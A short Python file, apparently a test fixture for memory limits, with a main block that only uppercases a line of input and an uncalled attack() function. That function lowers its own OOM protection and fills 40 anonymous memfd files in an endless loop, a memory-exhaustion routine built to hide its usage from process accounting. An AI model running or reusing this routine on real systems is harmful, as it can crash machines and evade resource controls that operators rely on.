"""Takes memory that no process is seen to have: files without a name, pipes and sockets."""

import os
import sys


def double(number):
    return 2 * number


def attack(key):
    with open("/proc/self/oom_score_adj", "w") as score:
        score.write("0")
    hoard = [os.memfd_create(str(number)) for number in range(40)]
    while True:
        for descriptor in hoard:
            os.write(descriptor, b"x" * (1 << 18))


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
